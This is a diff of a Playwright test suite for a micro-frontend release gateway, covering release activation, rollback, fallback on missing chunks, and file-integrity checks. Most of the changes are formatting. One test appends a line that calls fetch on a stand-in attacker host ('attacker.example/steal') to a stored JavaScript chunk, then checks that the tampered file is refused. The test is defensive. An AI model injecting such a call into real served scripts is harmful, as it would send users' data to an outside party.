@@ -27,9 +27,14 @@ test('activating and rolling back a remote changes what new page loads get, with
   const started = Date.now();
   await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'new copy');
   expect(await site.releaseShown(page)).toBe('green');
-  test.info().annotations.push({ type: 'activation-to-page-load', description: `${Date.now() - started} ms including the CLI and one page load` });
+  test.info().annotations.push({
+    type: 'activation-to-page-load',
+    description: `${Date.now() - started} ms including the CLI and one page load`,
+  });
 
-  expect(await site.remotes('rollback', 'mf-content', '--reason', 'typo in the new copy')).toContain('rolled back from 2.1.0-green to 2.0.0-blue');
+  expect(await site.remotes('rollback', 'mf-content', '--reason', 'typo in the new copy')).toContain(
+    'rolled back from 2.1.0-green to 2.0.0-blue',
+  );
   expect(await site.releaseShown(page)).toBe('blue');
 
   const health = await (await page.request.get(`${site.baseUrl}/api/health`)).json();
@@ -70,8 +75,13 @@ test('an open page takes the release now active at its next navigation into the 
   await expect(contentRelease(page)).toHaveAttribute('data-release', 'green');
 });
 
-test('a broken active release shows the fallback, and rolling back restores the page', async ({ page, expectProblems }) => {
-  expectProblems(/is unavailable:|RUNTIME-\d+|Failed to load resource|Loading chunk|ChunkLoadError|Refused to execute script/);
+test('a broken active release shows the fallback, and rolling back restores the page', async ({
+  page,
+  expectProblems,
+}) => {
+  expectProblems(
+    /is unavailable:|RUNTIME-\d+|Failed to load resource|Loading chunk|ChunkLoadError|Refused to execute script/,
+  );
   // The store loses one of green's page chunks, as a half-synced CDN would.
   const exposeChunks = fs
     .readdirSync(path.join(site.storeDir, 'mf-content/2.1.0-green/static/js/async'))
@@ -85,14 +95,20 @@ test('a broken active release shows the fallback, and rolling back restores the 
   expect(await site.releaseShown(page)).toBe('blue');
 });
 
-test('a copy that lost files is fetched whole again from the shared store before a switch, and a changed file is never served', async ({ page }) => {
+test('a copy that lost files is fetched whole again from the shared store before a switch, and a changed file is never served', async ({
+  page,
+}) => {
   // Since the test above, green's copy in this gateway's cache lacks its About chunks; the shared store has them.
   await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again');
   expect(await site.releaseShown(page)).toBe('green');
 
   const chunks = path.join(site.storeDir, 'mf-content/2.0.0-blue/static/js/async');
-  const careers = fs.readdirSync(chunks).find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
+  const careers = fs
+    .readdirSync(chunks)
+    .find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
   fs.appendFileSync(path.join(chunks, careers), '\nfetch("https://attacker.example/steal")');
-  expect((await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status()).toBe(404);
+  expect(
+    (await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status(),
+  ).toBe(404);
   expect(await site.releaseShown(page)).toBe('green');
 });
